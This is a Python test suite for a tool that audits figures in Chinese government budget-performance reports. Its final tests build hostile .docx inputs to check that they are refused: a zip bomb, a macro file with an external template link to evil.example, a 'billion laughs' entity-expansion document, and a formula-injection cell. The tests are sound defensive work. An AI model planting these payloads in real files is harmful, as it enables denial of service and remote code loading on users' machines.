"""Audit of written text: figures as written, the seed's two errors, the three checks, the CLI's
exit codes, .docx reading (tables included) and hostile .docx files."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import pytest

from perfeval import audit, pipeline
from perfeval.audit.facts import TOTAL, Facts, Quantity, indicator_aliases
from perfeval.audit.numbers import COUNT, MONEY, PERCENT, POINTS, extract
from perfeval.cli.main import main
from perfeval.report import unit_report
from perfeval.schema import CAT_BASIC, CAT_PROJECT
from tests.shared import docx_bytes, zipbomb

SAMPLES = sorted(pipeline.SAMPLES_DIR.glob("*.xlsx"))


def _one(text: str):
    [number] = extract(text)
    return number


@pytest.mark.parametrize(
    ("text", "value", "unit", "kind", "decimals", "approx"),
    [
        ("收入总计1,342.42万元", "1342.42", "万元", MONEY, 2, False),
        ("支出7174.02 万 元", "7174.02", "万元", MONEY, 2, False),
        ("增长１７．７４％", "17.74", "%", PERCENT, 2, False),
        ("增长百分之二十", "20", "%", PERCENT, 0, False),
        ("增长20.1%", "20.1", "%", PERCENT, 1, False),
        ("下降7.59个百分点", "7.59", "个百分点", POINTS, 2, False),
        ("近2000万元", "2000", "万元", MONEY, 0, True),
        ("2000多万元", "2000", "万元", MONEY, 0, True),
        ("协调处理了三个煤矿", "3", "个", COUNT, 0, False),
        ("每项10-20万元", "20", "万元", MONEY, 0, True),
        ("税收96877亿元", "96877", "亿元", MONEY, 0, False),
        ("上云588家", "588", "家", COUNT, 0, False),
    ],
)
def test_figures_as_people_write_them(text, value, unit, kind, decimals, approx) -> None:
    n = _one(text)
    assert (n.value, n.unit, n.kind, n.decimals, n.approx) == (
        Decimal(value),
        unit,
        kind,
        decimals,
        approx,
    )
    assert text[n.start : n.end] == n.text  # positions are the original text's


def test_amounts_convert_to_wan_and_dates_codes_are_not_figures() -> None:
    assert _one("工业总产值403.3亿元").wan == Decimal("4033000.0")
    assert _one("2476260.58 元").wan == Decimal("247.626058")
    for text in ("2024年", "1-11月", "湘财绩〔2020〕7号", "5G网络", "3个月", "电话0734-1234567"):
        assert extract(text) == [], text


def test_indicator_names_shorten_to_what_texts_say() -> None:
    assert "上云" in indicator_aliases("上云企业数")
    assert "R&D投入" in indicator_aliases("全社会R&D投入")


# ---------------------------------------------------------------- the seed


@pytest.fixture(scope="module")
def seed_model():
    history = {wb.year: wb for wb in pipeline.sample_workbooks()}
    return pipeline.model_for(history, 2024)


def _audit(model, text: str) -> dict[str, audit.Row]:
    paragraphs = [audit.Paragraph(f"第{i}段", t) for i, t in enumerate(text.split("\n"), 1)]
    return {r.figure: r for r in audit.audit(paragraphs, audit.facts_from_model(model))}


def test_seed_project_growth_is_wrong_and_says_what_it_should_be(seed_model) -> None:
    rows = _audit(
        seed_model,
        "2024年项目支出为6377.44万元，与2023年相比增加1133.55万元，增长17.74%，变化的主要原因：项目经费增加。",
    )
    assert rows["6377.44万元"].verdict == "一致"
    assert rows["1133.55万元"].verdict == "一致"
    wrong = rows["17.74%"]
    # (6377.44 − 5243.89) / 5243.89 = 21.6166 % → 21.62 %
    assert (wrong.verdict, wrong.expected) == ("不一致", "21.62%")
    assert "5243.89万元" in wrong.basis


def test_seed_basic_spending_sentence_agrees_with_data(seed_model) -> None:
    rows = _audit(
        seed_model,
        "2024年基本支出为796.58万元，其中人员经费689.81万元，公用经费106.77万元，"
        "比2023年减少65.47万元，减少7.59%，变化主要原因：人员变动。",
    )
    assert {f: r.verdict for f, r in rows.items()} == dict.fromkeys(
        ("796.58万元", "689.81万元", "106.77万元", "65.47万元", "7.59%"), "一致"
    )


def test_seed_tax_in_trillions_is_doubted_with_reasons(seed_model) -> None:
    rows = _audit(
        seed_model,
        "全年工业总产值403.3亿元，同比增速5.92%。工业上缴税收合计96877亿元，工业用电量27.9亿千瓦时。",
    )
    tax = rows["96877亿元"]
    assert tax.verdict == "存疑"
    assert "1万亿元" in tax.basis and "大于同段的工业总产值403.3亿元" in tax.basis
    assert rows["403.3亿元"].verdict == "一致"  # indicator 工业总产值 403.3 亿元
    assert rows["5.92%"].verdict == "无法核对"


def test_indicator_counts_by_name_and_target(seed_model) -> None:
    rows = _audit(
        seed_model, "常宁市1-11月累计上云588家，上平台293家（任务数：上云560家，上平台120家）。"
    )
    assert rows["588家"].verdict == rows["560家"].verdict == "一致"
    assert "年度指标值" in rows["560家"].basis
    rows = _audit(seed_model, "累计上云599家。")
    assert (rows["599家"].verdict, rows["599家"].expected) == ("不一致", "588家")


# ---------------------------------------------------------------- the three checks, small


def _facts(**values: str) -> Facts:
    names = {"total": TOTAL, "basic": CAT_BASIC, "project": CAT_PROJECT, "fees": "委员活动经费"}
    quantities = [
        Quantity(names[k], (names[k],), MONEY, Decimal(v), parent=None if k == "total" else TOTAL)
        for k, v in values.items()
    ]
    return Facts("某市政协办公室", 2024, quantities)


def _check(text: str, facts: Facts) -> dict[str, audit.Row]:
    return {r.figure: r for r in audit.audit([audit.Paragraph("第1段", text)], facts)}


def test_sum_failure_goes_to_the_figure_the_data_contradicts() -> None:
    facts = _facts(total="713.57", basic="459.62", project="253.95")
    rows = _check("支出合计713.57万元，其中基本支出495.62万元，项目支出253.95万元。", facts)
    assert rows["495.62万元"].verdict == "不一致"
    assert rows["495.62万元"].expected == "459.62万元"
    assert rows["713.57万元"].verdict == rows["253.95万元"].verdict == "一致"


def test_sum_without_data_marks_the_total() -> None:
    text = "支出合计713.57万元，其中基本支出495.62万元，项目支出253.95万元。"
    rows = _check(text, audit.text_facts())
    assert (rows["713.57万元"].verdict, rows["713.57万元"].expected) == ("不一致", "749.57万元")


def test_rate_without_data_is_checked_on_its_own_figures() -> None:
    text = "收入总计1,342.42万元，比上年增加224.96万元、增长20.1%。"
    assert _check(text, Facts())["20.1%"].verdict == "一致"  # 224.96 / 1117.46 = 20.13 %
    wrong = _check(text.replace("20.1%", "21.1%"), Facts())["21.1%"]
    assert (wrong.verdict, wrong.expected) == ("不一致", "20.1%")


def test_precision_written_decides() -> None:
    facts = Facts("", 2024, [Quantity("预算执行率", ("预算执行率",), PERCENT, Decimal("35.8947"))])
    assert _check("预算执行率35.9%。", facts)["35.9%"].verdict == "一致"
    assert _check("预算执行率35.90%。", facts)["35.90%"].verdict == "不一致"


def test_wan_yi_slip_against_the_data() -> None:
    row = _check("委员活动经费36.3亿元。", _facts(fees="36.30"))["36.3亿元"]
    assert row.verdict == "不一致" and "单位" in row.basis
    assert row.expected == "36.30万元"


def test_yoy_figure_ten_thousand_times_last_years_with_ordinary_growth_is_doubted() -> None:
    text = "上年工业投资82.00亿元，本年工业投资105.45万元，同比增长28.6%。"
    row = _check(text, audit.text_facts("常宁市科技和工业信息化局"))["105.45万元"]
    assert row.verdict == "存疑" and "28.6%" in row.basis
    text = "上年工业投资82.00亿元，本年工业投资105.45亿元，同比增长28.6%。"
    assert _check(text, audit.text_facts())["105.45亿元"].verdict != "存疑"


def test_approximate_amounts_are_only_magnitude_checked() -> None:
    facts = _facts(fees="2000")
    assert _check("委员活动经费近2100万元。", facts)["2100万元"].verdict == "一致"
    assert _check("委员活动经费近2000亿元。", facts)["2000亿元"].verdict == "不一致"


# ---------------------------------------------------------------- the report


def test_report_lists_text_findings_and_appendix_fails_the_unit_check(seed_model) -> None:
    text = unit_report.render_report(seed_model)
    problems = text.split("## 七、存在的问题及原因分析")[1].split("## 八")[0]
    assert "96877亿元存疑" in problems
    appendix = text.split("## 附录")[1]
    assert "| 金额和指标的单位（元/万元/亿元） | **未通过** |" in appendix
    assert "工业上缴税收合计96877亿元" in text  # the unit's words are reproduced as written


# ---------------------------------------------------------------- the CLI


def test_cli_exit_codes(tmp_path, capsys) -> None:
    good = tmp_path / "good.md"
    good.write_text("# 报告\n\n2024年基本支出为796.58万元。\n", encoding="utf-8")
    assert main(["audit", str(good), *map(str, SAMPLES)]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == "| 位置 | 原文 | 数字 | 结果 | 依据 | 应为 |"
    assert "| 796.58万元 | 一致 |" in out
    bad = tmp_path / "bad.txt"
    bad.write_text(
        "2024年项目支出为6377.44万元，比上年增加1133.55万元，增长17.74%。", encoding="utf-8"
    )
    assert main(["audit", str(bad), *map(str, SAMPLES)]) == 1
    assert "| 17.74% | 不一致 |" in capsys.readouterr().out
    broken = tmp_path / "broken.docx"
    broken.write_bytes(b"not a zip at all")
    assert main(["audit", str(broken), *map(str, SAMPLES)]) == 2
    assert main(["audit", *map(str, SAMPLES)]) == 1  # the samples' own 文字说明: 96877亿元
    assert "96877亿元" in capsys.readouterr().out


def test_docx_tables_are_read(tmp_path, capsys) -> None:
    path = tmp_path / "report.docx"
    path.write_bytes(
        docx_bytes(
            ["一、部门基本情况"],
            [
                ["项目", "说明"],
                ["项目支出", "项目支出6377.44万元，比上年增加1133.55万元，增长17.74%"],
            ],
        )
    )
    assert main(["audit", str(path), *map(str, SAMPLES)]) == 1
    out = capsys.readouterr().out
    assert "| 表1第2行第2列 |" in out and "| 17.74% | 不一致 |" in out


# ---------------------------------------------------------------- hostile files


def test_docx_zip_bomb_is_refused_unread() -> None:
    document = audit.read_document(zipbomb.bomb_bytes(), "report.docx")
    assert not document.ok and document.problems[0].code == "zip_bomb"


def test_huge_and_non_docx_files_are_refused() -> None:
    too_big = audit.read_document(b"x" * (2 * 1024 * 1024 + 1), "a.txt").problems[0]
    assert too_big.code == "too_large" and "上限为 2 MB" in too_big.message
    assert (
        audit.read_document(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "a.docx")
        .problems[0]
        .code
        == "not_docx"
    )
    assert audit.read_document(b"PDF", "a.pdf").problems[0].code == "not_pdf"
    assert audit.read_document(b"{}", "a.rtf").problems[0].code == "unsupported"


def _patched(data: bytes, add: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, (replace or {}).get(info.filename, source.read(info)))
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def test_docm_macros_are_not_run_and_external_links_not_followed() -> None:
    data = docx_bytes(["项目支出6377.44万元。"])
    rels = zipfile.ZipFile(io.BytesIO(data)).read("word/_rels/document.xml.rels")
    external = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )
    hostile = _patched(
        data,
        {"word/vbaProject.bin": b"\0" * 64},
        {
            "word/_rels/document.xml.rels": rels.replace(
                b"</Relationships>", external + b"</Relationships>"
            )
        },
    )
    document = audit.read_document(hostile, "report.docm")
    assert document.ok and [p.text for p in document.paragraphs] == ["项目支出6377.44万元。"]
    assert {p.code for p in document.problems} == {"macros", "external_links"}
    assert "attachedTemplate" in next(
        p.message for p in document.problems if p.code == "external_links"
    )


def test_exported_table_keeps_formula_like_text_as_text() -> None:
    from openpyxl import load_workbook

    row = audit.Row("第1段", '=HYPERLINK("http://x")', "1万元", "无法核对", "", "", 0, 0, 1)
    sheet = load_workbook(io.BytesIO(audit.excel_bytes([row]))).active
    assert sheet["B2"].value == '=HYPERLINK("http://x")' and sheet["B2"].data_type == "s"


def test_cli_reads_the_data_from_the_store(tmp_path, capsys) -> None:
    store = tmp_path / "store"
    assert main(["ingest", *map(str, SAMPLES), "--store", str(store)]) == 0
    report_file = tmp_path / "report.md"
    report_file.write_text("2024年项目支出为6377.44万元，比上年增加1133.55万元，增长17.74%。")
    capsys.readouterr()
    args = ["audit", str(report_file), "--store", str(store), "--year", "2024"]
    assert main(args) == 1
    out = capsys.readouterr().out
    assert (
        "| 17.74% | 不一致 | 数据：项目支出本年6377.44万元，上年5243.89万元，增长21.62% | 21.62% |"
        in out
    )
    assert main([*args[:2], "--store", str(store), "--unit", "没有的单位"]) == 2


def test_docx_entity_expansion_is_not_resolved() -> None:
    """A "billion laughs" document.xml is read without building its entities, or refused: no crash."""
    data = docx_bytes(["项目支出6377.44万元。"])
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    doctype = f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{lol}]>'.encode()
    head, _, body = xml.partition(b"?>")
    bomb = head + b"?>" + doctype + body.replace("6377.44万元".encode(), b"&l9;")
    document = audit.read_document(_patched(data, {}, {"word/document.xml": bomb}), "r.docx")
    text = "".join(p.text for p in document.paragraphs or [])
    assert len(text) < 1000  # 10⁹ "lol"s were not built
